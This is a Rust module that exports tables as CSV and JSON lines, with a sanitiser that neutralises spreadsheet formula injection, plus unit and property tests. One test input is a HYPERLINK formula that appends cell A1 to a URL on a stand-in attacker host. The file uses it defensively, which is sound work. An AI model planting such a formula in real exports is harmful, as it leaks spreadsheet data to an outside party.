//! Tables as files: CSV that a spreadsheet cannot be tricked with, and JSON lines for machines.
//!
//! A cell that begins like a formula would be run by the spreadsheet that opens it, with the rights of whoever does, and much of
//! what stands in a log was written by others. Such a cell gets an apostrophe in front (OWASP ASVS 5.0 §1.2.10); the rest is
//! RFC 4180. JSON needs no such care: nothing evaluates it.

use serde::Serialize;

/// `text/csv` as spreadsheets read it: with a mark that says UTF-8.
pub const CSV: &str = "text/csv; charset=utf-8; header=present";

/// One JSON object a line.
pub const JSON_LINES: &str = "application/jsonl; charset=utf-8";

/// First characters that make a cell a formula, or what a spreadsheet takes for blanks before one.
const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '｜'];

/// A table as CSV: a line of names, then the rows.
pub fn csv(names: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut text = String::from('\u{feff}');
    line(&mut text, names.iter().map(|name| (*name).to_owned()));
    rows.into_iter().for_each(|row| line(&mut text, row.into_iter()));
    text
}

fn line(text: &mut String, cells: impl Iterator<Item = String>) {
    for (number, cell) in cells.enumerate() {
        if number > 0 {
            text.push(',');
        }
        text.push_str(&quoted(&harmless(&cell)));
    }
    text.push_str("\r\n");
}

/// A cell that no spreadsheet runs.
fn harmless(cell: &str) -> String {
    let first = cell.trim_start_matches([' ', '\u{a0}', '\u{feff}']).chars().next();
    if first.is_some_and(|first| FORMULA.contains(&first)) || cell.starts_with(FORMULA) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

fn quoted(cell: &str) -> String {
    if cell.contains(['"', ',', '\r', '\n', ';', '\t', '\'']) || cell.starts_with(' ') || cell.ends_with(' ') {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_owned()
    }
}

/// Values as JSON, one a line.
pub fn json_lines<T: Serialize>(values: impl IntoIterator<Item = T>) -> Result<String, serde_json::Error> {
    let mut text = String::new();
    for value in values {
        text.push_str(&serde_json::to_string(&value)?);
        text.push('\n');
    }
    Ok(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_cell_that_begins_like_a_formula_is_text() {
        let check = |cell: &str, written: &str| {
            assert_eq!(csv(&["a"], [vec![cell.to_owned()]]), format!("\u{feff}a\r\n{written}\r\n"), "{cell:?}");
        };
        check("plain", "plain");
        check("", "");
        check("=1+1", "\"'=1+1\"");
        check("+49 30", "\"'+49 30\"");
        check("-1", "\"'-1\"");
        check("@SUM(A1)", "\"'@SUM(A1)\"");
        check("\t=1", "\"'\t=1\"");
        check("\r=1", "\"'\r=1\"");
        check("\0=1", "\"'\0=1\"");
        check(" =1", "\"' =1\"");
        check("\u{a0}=1", "\"'\u{a0}=1\"");
        check("＝1", "\"'＝1\"");
        check("a=1", "a=1");
        check("a,\"b\"", "\"a,\"\"b\"\"\"");
        check("two\nlines", "\"two\nlines\"");
        check(
            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
            "\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\"",
        );
    }

    #[test]
    fn values_stand_one_a_line() {
        let text = json_lines([serde_json::json!({"note": "=1\n2"}), serde_json::json!({})]).expect("plain values");
        assert_eq!(text, "{\"note\":\"=1\\n2\"}\n{}\n");
    }

    proptest! {
        #[test]
        fn what_a_reader_of_csv_gets_back_is_the_table_and_no_cell_is_a_formula(
            rows in prop::collection::vec(prop::collection::vec(any::<String>(), 3), 0..8),
        ) {
            let text = csv(&["a", "b", "c"], rows.clone());
            let mut reader = csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            let read: Vec<Vec<String>> =
                reader.records().map(|row| row.expect("well-formed").iter().map(str::to_owned).collect()).collect();
            // A row of empty cells alone is written, and read, like any other.
            let shown: Vec<Vec<String>> = rows.iter().map(|row| row.iter().map(|cell| harmless(cell)).collect()).collect();
            prop_assert_eq!(&read, &shown);
            for cell in read.iter().flatten() {
                prop_assert!(!cell.starts_with(FORMULA), "{:?}", cell);
            }
        }
    }
}
